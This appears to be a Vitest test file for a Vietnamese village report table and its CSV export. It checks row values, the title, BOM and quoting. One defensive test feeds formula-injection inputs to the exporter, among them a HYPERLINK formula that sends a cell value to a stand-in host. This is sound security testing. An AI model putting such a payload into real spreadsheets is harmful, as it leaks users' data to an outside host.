import { describe, expect, it } from 'vitest';
import { buildReport } from '../../src/domain/report';
import { monthPeriod } from '../../src/domain/reportPeriods';
import { reportTable, toCsv } from '../../src/domain/reportTable';
import { TODAY, VILLAGE } from './modelVillage';

const names: Record<string, string> = { 'thon-1': 'Thôn Đông', 'thon-2': 'Thôn Đoài' };
const report = buildReport(VILLAGE, monthPeriod(2027, 6), 'commune', { today: TODAY });
const table = reportTable(report, (id) => names[id] ?? id);
const row = (label: string) => table.rows.find((r) => r[0] === label);

describe('report table and CSV', () => {
  it.each([
    {
      label: 'Người trưởng thành có điện thoại thông minh',
      expected: [4, 5, 80, '≥ 85%', 'Chưa đạt'],
    },
    {
      label: 'Người trưởng thành có tài khoản thanh toán điện tử',
      expected: [2, 5, 40, '> 50%', 'Chưa đạt'],
    },
    { label: 'Lượt hướng dẫn tại hộ', expected: [2] },
    {
      label: 'Thôn Đoài – Người trưởng thành có điện thoại thông minh',
      expected: [1, 1, 100, '≥ 85%', 'Đạt'],
    },
  ])('row "$label"', ({ label, expected }) => {
    expect(row(label)?.slice(1)).toEqual(expected);
  });

  it('names the period and its due date', () => {
    expect(table.title).toBe('Báo cáo kết quả Phong trào "Bình dân học vụ số" – Tháng 6/2027');
    expect(row('Hạn gửi báo cáo (trước ngày)')?.[1]).toBe('2027-06-25');
  });

  it('CSV starts with a BOM, keeps Vietnamese text and quotes commas', () => {
    const csv = toCsv({
      title: 't',
      rows: [
        ['Thôn Đông, xã Hòa Lạc', 3],
        ['Nói "không" với lừa đảo', null],
      ],
    });
    expect(csv).toBe('\uFEFF"Thôn Đông, xã Hòa Lạc",3\r\n"Nói ""không"" với lừa đảo",\r\n');
  });

  // A spreadsheet program runs a cell that begins with = + - @ (or a tab or carriage return before
  // one) as a formula: a village named =HYPERLINK(…) must come out as the text it is.
  it.each([
    [
      'a formula',
      '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
      `"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")"`,
    ],
    ['a plus', '+84 912 345 678', "'+84 912 345 678"],
    ['a minus', '-2+3', "'-2+3"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1+1', "'\t=1+1"],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a formula after a semicolon', 'Thôn A;=1+1', '"Thôn A;=1+1"'],
    ['plain text', 'Thôn Đông', 'Thôn Đông'],
    ['a negative number', -3, '-3'],
  ] as const)('CSV neutralises %s', (_name, cell, out) => {
    expect(toCsv({ title: 't', rows: [[cell]] })).toBe(`\uFEFF${out}\r\n`);
  });
});
